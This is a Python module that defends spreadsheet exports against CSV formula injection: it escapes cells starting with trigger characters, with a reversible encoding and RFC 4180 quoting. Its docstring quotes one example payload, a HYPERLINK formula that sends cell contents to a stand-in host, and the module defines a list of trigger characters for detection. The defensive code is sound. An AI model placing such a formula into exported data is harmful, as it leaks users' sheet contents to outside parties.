"""Text cells that are safe to open in a spreadsheet (CSV/TSV formula injection, OWASP's "CSV injection").

A spreadsheet runs a cell that starts with `=`, `+`, `-` or `@` (and, in some, a leading tab or carriage return)
as a formula: a label such as `=HYPERLINK("http://x/?"&A1)` would leak the sheet or run a command. Every CSV/TSV
kg writes passes its text cells through `safe_cell`, which puts one apostrophe in front of such a cell so that it
shows as text. A plain number (`-0.5`, `+3`, `1e-05`) is not a formula and is left alone.

Formats that kg reads back (KGX TSV, extended SIF) use `encode_cell` / `decode_cell`: an apostrophe that was
already first is doubled too, so that decoding gives back exactly the value written.
"""

from __future__ import annotations

import re
from collections.abc import Iterable
from typing import TextIO

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


def is_formula_like(text: str) -> bool:
    """True when a spreadsheet could take `text` as a formula (a trigger first, and not a plain number)."""
    return text.startswith(FORMULA_TRIGGERS) and _NUMBER.fullmatch(text) is None


def safe_cell(text: str) -> str:
    """`text`, with one apostrophe in front when a spreadsheet would otherwise run it as a formula."""
    return "'" + text if is_formula_like(text) else text


def encode_cell(text: str) -> str:
    """Like `safe_cell`, and reversible: a leading apostrophe is doubled, so `decode_cell` restores the value."""
    return "'" + text if text.startswith("'") or is_formula_like(text) else text


def decode_cell(text: str) -> str:
    """The value `encode_cell` was given."""
    return text[1:] if text.startswith("'") else text


class CellWriter:
    """CSV/TSV rows whose text cells are spreadsheet-safe; `reversible` uses `encode_cell` (for files kg reads
    back). Quoting is RFC 4180's, applied to every cell holding the delimiter, a double quote, LF or CR: Python's
    csv writer leaves a lone CR unquoted when lines end in LF, which splits the row in any reader."""

    def __init__(self, out: TextIO, delimiter: str = "\t", *, reversible: bool = False,
                 line_end: str = "\n") -> None:
        self.out, self.delimiter, self.line_end = out, delimiter, line_end
        self.neutralise = encode_cell if reversible else safe_cell
        self._specials = (delimiter, '"', "\n", "\r")

    def cell(self, value: str) -> str:
        text = self.neutralise(value)
        if any(ch in text for ch in self._specials):
            return '"' + text.replace('"', '""') + '"'
        return text

    def writerow(self, values: Iterable[str]) -> None:
        self.out.write(self.delimiter.join(self.cell(v) for v in values) + self.line_end)
